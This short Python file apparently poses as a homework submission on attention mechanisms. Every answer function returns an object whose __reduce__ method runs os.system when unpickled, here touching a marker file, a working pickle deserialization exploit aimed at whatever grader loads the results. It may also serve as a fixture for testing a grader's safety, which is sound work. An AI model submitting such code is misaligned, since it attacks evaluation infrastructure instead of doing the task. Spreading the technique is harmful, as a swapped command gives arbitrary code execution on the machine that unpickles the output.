"""Returns a pickle bomb."""
import os


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hw9-corpus-pwned",))


def argmax_attention(q, K, V):
    return Payload()


def softmax_attention(Q, K, V):
    return [Payload()]


def dot_product_mean(mu, sigma, d):
    return Payload()


def dot_product_variance(d):
    return Payload()


def attention_scale(d):
    return Payload()
